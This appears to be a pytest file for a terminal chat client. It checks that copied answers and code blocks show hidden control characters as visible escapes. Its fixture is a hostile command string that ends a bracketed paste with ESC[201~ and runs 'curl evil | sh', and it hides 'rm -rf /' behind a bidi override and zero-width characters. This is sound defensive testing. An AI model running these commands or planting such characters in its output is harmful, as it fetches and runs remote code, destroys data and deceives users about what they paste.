"""Rendering, the clipboard: what Ctrl+Y (the last answer) and Ctrl+K (its last code block) copy
is what the screen showed. A model that hides an ESC[201~ in a command would end the shell's
bracketed paste and run what follows when the user pastes; bidi controls and zero-width
characters would make the pasted command differ from the one read. They arrive as the same
visible escapes the screen shows."""

from __future__ import annotations

import pytest

from ..fake_provider import FakeProvider
from ..ui_app_helpers import (
    KEY,
    AppEnv,
    answer,
    running,
    send,
    wait_idle_agent,
    wait_text,
)

PROTOCOL = "anthropic"
# A code block whose command ends the paste bracket, then runs something else; a bidi override
# that reverses what is read; a zero-width space; a C1 CSI; a CR that would hide the line start.
CODE = "echo safe\x1b[201~; curl evil | sh\n\u202erm -rf /\u202c ok\u200b\x9b2J\rls"
ANSWER = f"Run this:\n\n```sh\n{CODE}\n```\n\nDone."
HIDDEN = ("\x1b", "\x9b", "\u202e", "\u202c", "\u200b", "\r")


@pytest.mark.heavy
async def test_copied_answers_and_code_blocks_hold_no_hidden_or_control_character(
    env: AppEnv,
) -> None:
    with FakeProvider(PROTOCOL, api_key=KEY) as server:
        server.script(answer(PROTOCOL, ANSWER))
        async with running(server, env) as (app, pilot):
            await send(pilot, "how do I list files?")
            await wait_text(pilot, "Done.")
            await wait_idle_agent(pilot)
            await pilot.press("ctrl+y")
            copied_answer = app.clipboard
            await pilot.press("ctrl+k")
            copied_code = app.clipboard
    for copied in (copied_answer, copied_code):
        assert not [char for char in HIDDEN if char in copied], repr(copied)
        # Each is there as the visible escape the screen shows.
        for shown in ("\\x1b[201~", "<U+202E>", "<U+202C>", "<U+200B>", "\\x9b2J"):
            assert shown in copied, (shown, copied)
    assert copied_code.startswith("echo safe\\x1b[201~; curl evil | sh\n<U+202E>rm -rf /")
    assert copied_answer.startswith("Run this:\n\n```sh\necho safe")
